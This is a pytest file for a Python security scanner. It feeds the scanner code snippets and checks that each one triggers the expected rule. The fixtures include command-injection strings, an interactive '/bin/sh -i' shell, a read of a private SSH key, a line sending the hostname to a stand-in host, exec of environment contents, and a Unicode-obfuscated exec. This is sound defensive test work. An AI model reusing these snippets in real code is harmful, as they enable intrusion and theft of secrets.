"""What calls mean."""

from __future__ import annotations

import pytest

from hanse.flows.rulesets import builtin_ruleset
from hanse.scan.dispatch import extract
from hanse.scan.source import BytesSource
from hanse.scan.verdict import judge


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('import os\nos.system("git status; evil")', "PYTHON-PROCESS-LOAD"),
        ('import os\nos.system("git status && make -j 4")', "PYTHON-PROCESS-TOOL"),
        ('import os\nos.system("git clone $(evil)")', "PYTHON-PROCESS-LOAD"),
        ('import os\nos.system("pip install numpy")', "PYTHON-PROCESS-TOOL"),
        ('import os\nos.system("pip install git+https://example.org/x")', "PYTHON-PROCESS-INSTALL"),
        ("import os\nos.system(command)", "PYTHON-PROCESS-UNKNOWN"),
        ('import os\nos.system(f"tool {command}")', "PYTHON-PROCESS-UNKNOWN"),
        ("import os\ndef f(command):\n    os.system(command)", "PYTHON-PROCESS-USE"),
        ('import os\nexec(os.environ["X"])', "PYTHON-EXEC-ENVIRONMENT"),
        ('import os\nos.environ["X"] = text\nexec(os.environ["X"])', "PYTHON-EXEC-OUTSIDE"),
        ('import os\nos.environ.update(X=text)\nexec(os.getenv("X"))', "PYTHON-EXEC-OUTSIDE"),
        ('import os\nos.system("tool --version")', "PYTHON-PROCESS-TOOL"),
        ('import os\nos.system("./tool --version")', "PYTHON-PROCESS-LOAD"),
        ('import os\nos.system("tool --version; evil")', "PYTHON-PROCESS-LOAD"),
        ('import subprocess\nsubprocess.run(["ssh", "-i", key])', "PYTHON-PROCESS-UNKNOWN"),
        ('import os\nos.system("/bin/sh -i")', "PYTHON-PROCESS-PAYLOAD"),
        ("import os\nclass A:\n    def __init__(self, *args):\n        os.system(*args)", "PYTHON-PROCESS-USE"),
        ("import os\nclass A:\n    def __init__(self, *a):\n        a = self.x\n        os.system(*a)", "PYTHON-PROCESS-UNKNOWN"),
        ('import os\ndef f():\n    os.system("evil")\ndef g(run=f):\n    run()', "PYTHON-PROCESS-USE"),
        ('import os\ndef f():\n    os.system("evil")\ndef g(run=f):\n    run()\ng()', "PYTHON-PROCESS-LOAD"),
        ('exec(open("version.py").read())', "PYTHON-EXEC"),
        ('import torch\ntorch.hub.load("a/b", "c")', "PYTHON-REMOTE-CODE"),
        ('import ctypes\nctypes.CDLL("libc.so.6")', "PYTHON-NATIVE"),
        ('open("/home/user/.ssh/id_rsa")', "PYTHON-READ-SECRET"),
        ('import requests, socket\nrequests.get("http://x/" + socket.gethostname())', "PYTHON-EXFILTRATE-HOST"),
        ('import requests\nrequests.get("http://x/")', "PYTHON-NETWORK"),
        ("import x\nprint 'a'", "PYTHON-UNREADABLE"),
        ("import x\n\uff45xec(x)", "PYTHON-NAME-FOLDED"),
    ],
)
def test_rules(text: str, rule: str) -> None:
    """Each rule applies to what it is named after."""
    found = judge(extract(BytesSource(text.encode())), "x.py", builtin_ruleset())
    assert rule in {one.rule for one in found.findings}
